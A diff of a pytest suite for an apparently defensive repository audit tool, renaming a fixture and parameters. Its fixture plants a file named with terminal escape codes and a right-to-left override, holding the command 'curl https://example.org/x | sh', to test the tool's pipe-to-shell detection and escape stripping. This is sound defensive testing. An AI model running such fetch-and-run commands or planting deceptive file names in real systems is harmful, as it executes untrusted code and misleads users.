@@ -22,13 +22,13 @@ ESCAPE = re.compile(rb"\x1b\[([0-9;]*)([A-Za-z])")
 FEW = "--only=snapshot,curated_patterns,missing,inapplicable"
 
 
-def gather_argv(box, *words):
+def gather_argv(box, *args):
     return [box.command, "gather", "--audit", str(box.log), "--audit-sync", "none", "--policy", str(box.policy),
-            "--probes", str(box.probes), *words]
+            "--probes", str(box.probes), *args]
 
 
 @pytest.fixture
-def place(user_box):
+def prepared(user_box):
     """A caller with a repository in which there is something to find, beneath a name that a terminal would obey."""
     user_box.commit = user_box.repository().decode().strip()
     user_box.file("root/\x1b[2J\u202eevil\n.sh", "curl https://example.org/x | sh\n")
@@ -48,8 +48,8 @@ def place(user_box):
 
 
 @pytest.fixture
-def document(place):
-    answer = place.call(gather_argv(place, FEW, "--json"))
+def document(prepared):
+    answer = prepared.call(gather_argv(prepared, FEW, "--json"))
     assert answer.status == 0 and answer.out.count(b"\n") == 1, answer
     return json.loads(answer.out)
 
@@ -87,8 +87,8 @@ def shown(written):
     return lines, widest
 
 
-def has_line(lines, *words):
-    return any(all(word in line for word in words) for line in lines)
+def has_line(lines, *args):
+    return any(all(word in line for word in args) for line in lines)
 
 
 # ---- the document ----
@@ -97,10 +97,10 @@ def test_schema_is_a_schema():
     jsonschema.Draft7Validator.check_schema(SCHEMA)
 
 
-def test_the_document_is_as_the_schema_says(place, document):
+def test_the_document_is_as_the_schema_says(prepared, document):
     VALIDATOR.validate(document)
     probes = by_name(document)
-    assert document["commit"] == place.commit
+    assert document["commit"] == prepared.commit
     assert probes["missing"]["state"] == "tool_missing" and probes["missing"]["install"]
     assert probes["inapplicable"]["state"] == "skipped" and probes["semgrep"]["state"] == "skipped"
     paths = [finding["path"] for finding in probes["curated_patterns"]["evidence"]["findings"]]
@@ -124,7 +124,7 @@ def wrong_documents(document):
     yield "an outcome of nobody's", but(lambda other: other["probes"][at]["calls"][0].update(outcome="died"))
 
 
-def test_the_schema_refuses_what_is_no_document(document):
+def test_the_schema_refuses_an_invalid_document(document):
     assert [name for name, wrong in wrong_documents(document) if VALIDATOR.is_valid(wrong)] == []
 
 
@@ -134,8 +134,8 @@ def without_timing(value):
     return [without_timing(member) for member in value] if isinstance(value, list) else value
 
 
-def test_only_timing_differs_between_two_looks(place, document):
-    again = json.loads(place.call(gather_argv(place, FEW, "--json", "--jobs=1")).out)
+def test_only_timing_differs_between_two_looks(prepared, document):
+    again = json.loads(prepared.call(gather_argv(prepared, FEW, "--json", "--jobs=1")).out)
     assert json.dumps(without_timing(again)) == json.dumps(without_timing(document))
     assert again["timing"] != document["timing"]
 
@@ -153,44 +153,44 @@ def test_the_page_lists_every_probe_and_its_tool():
     assert rows == [(probe["name"], probe["tool"]) for probe in probes]
 
 
-def test_what_the_page_asks_of_a_document_is_answered(place, document):
-    path = place.file("outside/all.json", json.dumps(document))
+def test_what_the_page_asks_of_a_document_is_answered(prepared, document):
+    path = prepared.file("outside/all.json", json.dumps(document))
     questions = re.findall(r"^    (jq .*) all\.json$", PAGE, re.MULTILINE)
     assert len(questions) == 4
     for question in questions:
-        answer = place.call([*shlex.split(question), str(path)])
+        answer = prepared.call([*shlex.split(question), str(path)])
         assert answer.status == 0 and answer.out and answer.err == b"", (question, answer)
 
 
 # ---- the summary ----
 
-def test_the_summary_is_harmless_and_fits(place):
-    out = place.outside / "all.json"
-    answer = place.call(gather_argv(place, FEW, "--out", str(out)))
+def test_the_summary_is_harmless_and_fits(prepared):
+    out = prepared.outside / "all.json"
+    answer = prepared.call(gather_argv(prepared, FEW, "--out", str(out)))
     assert answer.status == 0 and b"\x1b" not in answer.out + answer.err
     lines = answer.out.decode().splitlines()
     assert max(map(len, lines)) <= 80
     assert all(line.isprintable() for line in lines)
-    assert has_line(lines, "Commit", place.commit)
+    assert has_line(lines, "Commit", prepared.commit)
     assert has_line(lines, "missing", "tool_missing: absentee is not installed")
     assert has_line(lines, "npm install -g absentee")
     assert has_line(lines, "inapplicable: no file matches")
     assert has_line(lines, "high", "what 'curl' fetches is run at once")
     assert has_line(lines, "and 1 more [pipe_to_shell]")
-    assert lines[-1].startswith("Document ") and json.loads(out.read_bytes())["commit"] == place.commit
+    assert lines[-1].startswith("Document ") and json.loads(out.read_bytes())["commit"] == prepared.commit
 
 
-def test_nothing_but_the_summary_without_a_terminal(place):
-    answer = place.call(gather_argv(place, "--only=snapshot"), env=place.environment(TERM="xterm"))
+def test_nothing_but_the_summary_without_a_terminal(prepared):
+    answer = prepared.call(gather_argv(prepared, "--only=snapshot"), env=prepared.environment(TERM="xterm"))
     assert answer.out.startswith(b"Repository") and answer.err == b""
 
 
 # ---- the terminal ----
 
 @pytest.mark.parametrize("columns", [80, 200, 40])
-def test_the_table_fits_the_terminal_and_stays(place, columns):
-    status, written = on_terminal(place, gather_argv(place, FEW), columns=columns, streams=("stderr",),
-                                  env=place.environment(TERM="xterm"))
+def test_the_table_fits_the_terminal_and_stays(prepared, columns):
+    status, written = on_terminal(prepared, gather_argv(prepared, FEW), columns=columns, streams=("stderr",),
+                                  env=prepared.environment(TERM="xterm"))
     lines, widest = shown(written)
     assert status == 0 and widest < min(columns, 80 + 1)
     assert len([line for line in lines if line]) == 1 + 13
@@ -203,9 +203,9 @@ def test_the_table_fits_the_terminal_and_stays(place, columns):
 
 @pytest.mark.parametrize("variables, escapes", [({"TERM": "xterm"}, b"ABKJm"), ({"TERM": "xterm", "NO_COLOR": "1"}, b"ABKJ"),
                                                 ({"TERM": "dumb"}, b""), ({}, b"m")])
-def test_escapes_are_those_that_are_wanted(place, variables, escapes):
-    status, written = on_terminal(place, gather_argv(place, FEW), streams=("stdout", "stderr"),
-                                  env=place.environment(**variables))
+def test_escapes_are_those_that_are_wanted(prepared, variables, escapes):
+    status, written = on_terminal(prepared, gather_argv(prepared, FEW), streams=("stdout", "stderr"),
+                                  env=prepared.environment(**variables))
     found = {match.group(2) for match in ESCAPE.finditer(written)}
     assert status == 0 and b"Repository" in written
     assert found <= {bytes([letter]) for letter in escapes}, found
@@ -214,11 +214,11 @@ def test_escapes_are_those_that_are_wanted(place, variables, escapes):
 
 
 @pytest.mark.parametrize("background", [False, True])
-def test_a_command_in_the_background_leaves_the_terminal_alone(place, background):
+def test_a_command_in_the_background_leaves_the_terminal_alone(prepared, background):
     def own_the_terminal():
         fcntl.ioctl(2, termios.TIOCSCTTY, 0)
     script = "set -m; \"$@\" & wait $!" if background else "\"$@\""
-    status, written = on_terminal(place, ["sh", "-c", script, "sh", *gather_argv(place, FEW)], streams=("stderr",),
-                                  env=place.environment(TERM="xterm"), start_new_session=True,
+    status, written = on_terminal(prepared, ["sh", "-c", script, "sh", *gather_argv(prepared, FEW)], streams=("stderr",),
+                                  env=prepared.environment(TERM="xterm"), start_new_session=True,
                                   preexec_fn=own_the_terminal)
     assert status == 0 and (b"PROBE" in written) == (not background), written
